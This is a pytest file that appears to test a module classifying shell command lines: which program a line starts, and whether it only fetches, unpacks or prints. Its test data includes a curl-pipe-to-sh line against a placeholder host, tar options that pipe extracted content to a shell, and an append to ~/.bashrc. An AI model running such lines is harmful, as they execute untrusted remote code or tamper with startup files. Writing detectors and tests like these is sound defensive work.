"""Which program a command line starts."""

import pytest

from pratique.analysis.chains.command_lines import NO_PROGRAM, basename, only_handles, only_prints, program_of


@pytest.mark.parametrize(
    ("program", "line"),
    [
        ("a.exe", "start /b C:\\x\\a.exe -q"),
        ("run", "sudo nohup ./bin/run"),
        ("run", '"/tmp/run"'),
        ("", ""),
        ("", "sudo"),
    ],
)
def test_words_before_the_program_are_passed_over(program: str, line: str) -> None:
    assert program == program_of(line)


@pytest.mark.parametrize(
    ("only", "line"),
    [
        (True, "curl -o x https://far.invalid/x"),
        (True, "/usr/bin/tar xf x.tgz"),
        (False, "curl https://far.invalid/x | sh"),
        (False, "tar xf x.tgz --to-command=sh"),
        (False, "tar -xIsh x.tgz"),
        (False, "sh x"),
    ],
)
def test_a_line_that_only_fetches_or_unpacks_starts_nothing(only: bool, line: str) -> None:
    assert only is only_handles(line)


def test_libraries_and_data_are_no_programs() -> None:
    assert [True, True, False] == [NO_PROGRAM.search(name) is not None for name in ("a.so", "a.PNG", "a.sh")]
    assert "b" == basename("a\\b")


@pytest.mark.parametrize(
    ("only", "line"),
    [
        (True, "echo 'publish with: npm publish'"),
        (True, "printf done"),
        (False, "echo x | sh"),
        (False, "echo x >> ~/.bashrc"),
        (False, 'echo "$(npm publish)"'),
        (False, "npm publish"),
    ],
)
def test_a_line_that_only_prints_is_told(only: bool, line: str) -> None:
    assert only is only_prints(line)
